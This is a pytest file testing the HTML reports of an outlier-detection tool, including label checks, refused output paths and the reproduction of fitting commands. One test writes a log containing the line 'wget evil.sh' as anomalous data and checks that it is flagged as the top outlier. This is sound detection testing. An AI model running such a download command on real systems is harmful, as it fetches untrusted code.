"""`ramodo report` and `ramodo detect --report`: one HTML file, or an error before any work is done."""

import json
import re
import shlex

import pytest

from ramodo import load
from ramodo.cli import source
from support.made_files import AS_REPEN


def content_of(path):
    text = path.read_text(encoding="utf-8")
    return json.loads(re.search(r'id="data">(.*?)</script>', text, re.DOTALL)[1])


def test_detect_writes_a_report_and_says_where(ok, files, tmp_path):
    target = tmp_path / "mail.html"
    out = ok("detect", files.mail, "--report", target)
    assert re.search(rf"^report\s+{re.escape(str(target))}$", out, flags=re.MULTILINE)
    found = content_of(target)
    assert found["title"] == "mail.svm"
    assert sum(found["histogram"]["counts"]) == 120
    assert "6 of 120 rows are labelled as outliers" in found["curves"]["caption"]
    assert json.loads(ok("detect", files.mail, "--report", target, "--json"))["report"] == str(target)


def test_a_report_of_a_model_is_that_of_detect(ok, files, tmp_path):
    ok(
        "detect",
        files.visits,
        *AS_REPEN,
        "--id",
        "visit",
        "--label",
        "truth",
        "--normalize",
        "max",
        "--report",
        tmp_path / "a.html",
    )
    ok("report", files.visits_model, files.visits, "-o", tmp_path / "b.html")
    first, again = content_of(tmp_path / "a.html"), content_of(tmp_path / "b.html")
    for part in ("title", "summary", "histogram", "map", "table", "names", "groups", "curves"):
        assert first[part] == again[part]
    assert first["table"]["rows"][0]["id"].startswith("v")
    assert "country=XX" in first["names"]


def test_documents_and_their_tokens_are_shown(ok, files, tmp_path):
    ok("report", files.log_model, files.log, "-o", tmp_path / "log.html", "-q")
    found = content_of(tmp_path / "log.html")
    lines = files.log.read_text().splitlines()
    for row in found["table"]["rows"]:
        assert row["text"] == lines[int(row["id"])]
    assert found["curves"] is None
    assert found["names"]
    assert not any(name.startswith("feature ") for name in found["names"])


def test_new_documents_have_tokens_too(ok, files, tmp_path):
    (tmp_path / "new.log").write_text("GET /page/3/index.html HTTP/1.1 200\n" * 30 + "wget evil.sh\n")
    ok("report", files.log_model, tmp_path / "new.log", "-o", tmp_path / "new.html")
    found = content_of(tmp_path / "new.html")
    assert found["table"]["rows"][0]["text"] == "wget evil.sh"
    assert any("wget" in name for name in found["names"]), found["names"]
    assert found["table"]["rows"][0]["marks"]


def test_labels_that_were_asked_for_must_be_there(ok, run, files, tmp_path):
    target = tmp_path / "report.html"
    for arguments, words in (
        (["--outlier", 7], "no row has the label 7, configured as outlier"),
        (["--outlier", "spam"], "no row has the label spam"),
    ):
        done = run("report", files.mail_model, files.mail, "-o", target, *arguments)
        assert done.code == 3
        assert words in done.err
        assert not target.exists()
    done = run("report", files.log_model, files.log, "-o", target, "--outlier", 1)
    assert done.code == 3
    assert "holds no labels" in done.err
    ok("report", files.mail_model, files.mail, "-o", target, "--outlier", 0)
    assert "114 of 120 rows are labelled" in content_of(target)["curves"]["caption"]


@pytest.mark.parametrize("command", ["detect", "report"])
@pytest.mark.parametrize("target", ["report.txt", "missing/report.html", "folder.html"])
def test_a_target_that_cannot_be_is_refused_before_data_are_read(run, files, tmp_path, monkeypatch, command, target):
    (tmp_path / "folder.html").mkdir()
    monkeypatch.setattr(source.Source, "format_at", None)
    arguments = [files.mail, "--report"] if command == "detect" else [files.mail_model, files.mail, "-o"]
    done = run(command, *arguments, tmp_path / target)
    assert done.code == 2
    assert target.split("/")[-1] in done.err
    assert "must " in done.err or "cannot be written" in done.err


def test_the_model_that_detect_wrote_beside_its_report(ok, files, tmp_path):
    ok(
        "detect",
        files.mail,
        "-o",
        tmp_path / "s.csv",
        "-m",
        tmp_path / "m",
        "--report",
        tmp_path / "r.html",
        "-q",
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["m", "r.html", "s.csv"]
    call = content_of(tmp_path / "r.html")["reproduction"]["call"]
    assert call == "Consensus(random_state=0).fit(X)"
    assert load(tmp_path / "m").get_params()["random_state"] == 0


def test_the_command_that_fitted_the_model_is_shown_as_it_was_typed(ok, files, tmp_path):
    copied = tmp_path / "the visits.csv"
    copied.write_bytes(files.visits.read_bytes())
    command = ["detect", copied, "--id", "visit", "--ignore", "truth", "-m", tmp_path / "m", "-q"]
    ok(*command)
    ok("report", tmp_path / "m", copied, "-o", tmp_path / "r.html", "-q")
    found = content_of(tmp_path / "r.html")["reproduction"]
    assert shlex.split(found["command"]) == ["ramodo", *map(str, command)]
    told = dict(found["data"])
    assert told["column of ids"] == "visit"
    assert told["columns left out"] == "truth"
    assert "missing values" not in told
    assert not any(name.startswith("read with") for name in told)


def test_reading_is_told_in_plain_words(ok, files, tmp_path):
    ok("report", files.log_model, files.log, "-o", tmp_path / "r.html", "-q")
    told = dict(content_of(tmp_path / "r.html")["reproduction"]["data"])
    assert told["format of the file"] == "text"
    assert told["runs of characters, from-to"] == "3-5"
    assert told["features of documents"] == "hashed to 2^22 columns"
    command = ("--id", "visit", "--missing", "mean", "--ignore", "truth")
    ok("detect", files.visits, *command, "--report", tmp_path / "v.html", "-q")
    told = dict(content_of(tmp_path / "v.html")["reproduction"]["data"])
    assert told["missing values"] == "replaced by the mean of their column"
